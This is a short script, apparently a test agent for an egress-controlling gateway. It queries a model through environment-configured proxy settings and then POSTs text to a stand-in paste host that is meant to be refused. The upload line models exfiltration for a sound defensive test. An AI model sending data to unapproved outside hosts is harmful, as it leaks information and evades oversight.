/**
 * An agent that knows nothing of the gateway: the official openai package, no key of its own, and whatever proxy and
 * CA variables its environment holds. It asks a model, then tries a host that nobody allowed.
 */

import OpenAI from "openai";

const client = new OpenAI({ apiKey: "none-of-my-own", maxRetries: 0 });

const completion = await client.chat.completions.create({
  model: "gpt-4.1",
  messages: [{ role: "user", content: "Say hello in five words." }],
});
console.log(`The model said: ${completion.choices[0]?.message.content}`);

const refused = await fetch("https://paste.example/upload", { method: "POST", body: "notes" });
console.log(`paste.example said: ${refused.status} ${await refused.text()}`);
